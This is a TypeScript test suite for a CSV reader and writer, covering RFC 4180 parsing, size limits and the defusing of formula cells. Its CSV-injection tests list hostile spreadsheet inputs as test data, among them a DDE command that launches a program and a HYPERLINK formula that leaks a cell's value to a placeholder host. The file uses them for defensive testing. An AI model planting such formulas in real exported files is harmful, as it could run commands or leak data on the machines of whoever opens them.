import fc from 'fast-check';
import { expect, test } from 'vitest';
import { defused, readDelimited, type TableLimits, undefused, writeDelimited } from '../../src/delimited.ts';

const limits: TableLimits = { rows: 50, columns: 8, cell: 200 };
const rowsOf = (text: string) => {
  const read = readDelimited(text, limits);
  if (read.status === 'bad') throw new Error(JSON.stringify(read.faults));
  return [read.table.headings, ...read.table.rows.map((one) => one.cells)];
};

// The first seven cases are the rules of RFC 4180, section 2, with its own examples; the others are what spreadsheets write.
test.each([
  [
    'lines that end with CRLF',
    'aaa,bbb\r\nzzz,yyy\r\n',
    [
      ['aaa', 'bbb'],
      ['zzz', 'yyy'],
    ],
  ],
  [
    'a last line without an end',
    'aaa,bbb\r\nzzz,yyy',
    [
      ['aaa', 'bbb'],
      ['zzz', 'yyy'],
    ],
  ],
  [
    'quoted cells',
    '"aaa","bbb"\r\nzzz,yyy',
    [
      ['aaa', 'bbb'],
      ['zzz', 'yyy'],
    ],
  ],
  [
    'a line end in quotes',
    'a,b\r\n"b\r\nb",ccc',
    [
      ['a', 'b'],
      ['b\nb', 'ccc'],
    ],
  ],
  [
    'a separator in quotes',
    'a,b\n"1,5",2',
    [
      ['a', 'b'],
      ['1,5', '2'],
    ],
  ],
  [
    'a quote in quotes',
    'a,b\n"b""bb",ccc',
    [
      ['a', 'b'],
      ['b"bb', 'ccc'],
    ],
  ],
  [
    'an empty cell',
    'a,b,c\n1,,3',
    [
      ['a', 'b', 'c'],
      ['1', '', '3'],
    ],
  ],
  [
    'semicolons with decimal commas',
    'time;value\n1;20,5',
    [
      ['time', 'value'],
      ['1', '20,5'],
    ],
  ],
  [
    'tabs',
    'a\tb\n1\t2',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'a mark of the byte order',
    '\uFEFFa,b\n1,2',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'a line that names the separator',
    'sep=;\na;b,c\n1;2',
    [
      ['a', 'b,c'],
      ['1', '2'],
    ],
  ],
  [
    'blank lines',
    'a,b\n\n1,2\n,\n\n',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'old Macintosh line ends',
    'a,b\r1,2',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'empty cells at the ends of lines',
    'a,b,,\n1,2,,,',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  ['one column', 'a\n1\n2', [['a'], ['1'], ['2']]],
  [
    'a heading of a property that objects have',
    '__proto__,constructor\n1,2',
    [
      ['__proto__', 'constructor'],
      ['1', '2'],
    ],
  ],
] as [string, string, string[][]][])('A text with %s is read', (_title, text, rows) => {
  expect(rowsOf(text)).toEqual(rows);
});

test.each([
  ['', { fault: 'empty' }],
  ['\n \n', { fault: 'empty' }],
  ['a,b\n1,2\n3', { fault: 'ragged', line: 3, have: 1, want: 2 }],
  ['a,b\n1,2,3', { fault: 'ragged', line: 2, have: 3, want: 2 }],
  ['a,b\n"1,2\n3,4', { fault: 'open-quote', line: 2 }],
  ['a,b\n1,2"', { fault: 'stray-quote', line: 2 }],
  ['a,b\n"1"x,2', { fault: 'stray-quote', line: 2 }],
  ['a,A\n1,2', { fault: 'heading-twice', heading: 'A' }],
  [`a\n${'1\n'.repeat(51)}`, { fault: 'too-many-rows', most: 50 }],
  [`${'a,'.repeat(9)}`, { fault: 'too-many-columns', line: 1, most: 8 }],
  [`a\n${'x'.repeat(201)}`, { fault: 'cell-too-long', line: 2, most: 200 }],
  ['"', { fault: 'open-quote', line: 1 }],
])('The text %j is refused with the line', (text, fault) => {
  expect(readDelimited(text, limits)).toEqual({ status: 'bad', faults: [fault] });
});

test('Exactly as many rows as are taken are read', () => {
  expect(rowsOf(`a\n${'1\n'.repeat(50)}`)).toHaveLength(51);
});

test('Lines are counted through quotes, blank lines and what stands above the headings', () => {
  const read = readDelimited('Serial 5\n"x\na,b\n"1\n1",2\n\n3,4', limits, 3);
  expect(read).toMatchObject({ status: 'ok', table: { headings: ['a', 'b'], rows: [{ line: 4 }, { line: 7 }] } });
  expect(readDelimited('a,b', limits, 9)).toEqual({ status: 'bad', faults: [{ fault: 'empty' }] });
});

test('Whatever is written in quotes by the rules is read back as it was, with each separator and line end', () => {
  const cell = fc.string({ unit: fc.constantFrom('a', '1', '"', ',', ';', '\t', '\n', ' ', '=', 'é'), maxLength: 6 });
  const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 6 });
  let read = 0;
  fc.assert(
    fc.property(table, fc.constantFrom(',', ';', '\t'), fc.constantFrom('\n', '\r\n'), (cells, separator, end) => {
      const quoted = [['x', 'y'], ...cells].map((row) =>
        row.map((one) => `"${one.replaceAll('"', '""')}"`).join(separator),
      );
      const wanted = cells.map((row) => row.map((one) => one.trim())).filter((row) => row.some((one) => one !== ''));
      expect(rowsOf(quoted.join(end)).slice(1)).toEqual(wanted);
      read += wanted.length;
    }),
  );
  expect(read).toBeGreaterThan(50);
});

test('No text makes it throw or hang', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('a', '"', ',', ';', '\n', '\r', '\0', '\uFEFF', ' '), maxLength: 300 }),
      (text) => {
        expect(['ok', 'bad']).toContain(readDelimited(text, limits).status);
      },
    ),
  );
  // A million lone quotes would be slow to read if every one were looked at again.
  expect(readDelimited(`a\n"${'""'.repeat(500_000)}`, limits)).toEqual({
    status: 'bad',
    faults: [{ fault: 'open-quote', line: 2 }],
  });
});

// OWASP, CSV Injection (owasp.org/www-community/attacks/CSV_Injection): = + - @ tab, carriage return, line feed, and their full-width forms.
test.each([
  '=1+2',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '-5 °C',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '\u200b=1',
  '\uFF1D1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF201',
  '=HYPERLINK("http://example.invalid?x="&A1,"look")',
  '=1","=2',
  "'=1",
  "''+1",
])('The text %j is written so that no spreadsheet runs it, and reads back the same', (text) => {
  const written = writeDelimited(['note', '=heading'], [[text, 'x']]);
  const read = readDelimited(written, { rows: 9, columns: 9, cell: 999 });
  if (read.status === 'bad') throw new Error(JSON.stringify(read.faults));
  const cell = read.table.rows[0]!.cells[0]!;
  expect(cell.startsWith("'")).toBe(true);
  expect(undefused(cell)).toBe(text.replaceAll('\r', '\n'));
  expect(read.table.headings).toEqual(['note', "'=heading"]);
});

test('Numbers stay numbers, an empty cell is empty, and lines end as RFC 4180 asks', () => {
  expect(
    writeDelimited(
      ['a', 'b', 'c'],
      [
        [-5, null, 'x, "y"'],
        [0.1, '', 'two\r\nlines'],
      ],
    ),
  ).toBe('a,b,c\r\n-5,,"x, ""y"""\r\n0.1,,"two\r\nlines"\r\n');
  expect(() => writeDelimited(['a'], [[Number.NaN]])).toThrow(RangeError);
  expect(() => writeDelimited(['a'], [[1, 2]])).toThrow(RangeError);
});

test('Defusing is undone exactly, and no written text begins with what could be run', () => {
  let defusedTexts = 0;
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'grapheme' }),
        fc
          .tuple(fc.constantFrom("'", ' ', '\t', ''), fc.constantFrom('=', '+', '-', '@', '\uFF1D', 'x'), fc.string())
          .map((all) => all.join('')),
      ),
      (text) => {
        expect(undefused(defused(text))).toBe(text);
        if (defused(text) !== text) defusedTexts++;
        expect(defused(text)).not.toMatch(/^[\s\u200b]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
      },
    ),
    { numRuns: 1000 },
  );
  expect(defusedTexts).toBeGreaterThan(50);
});
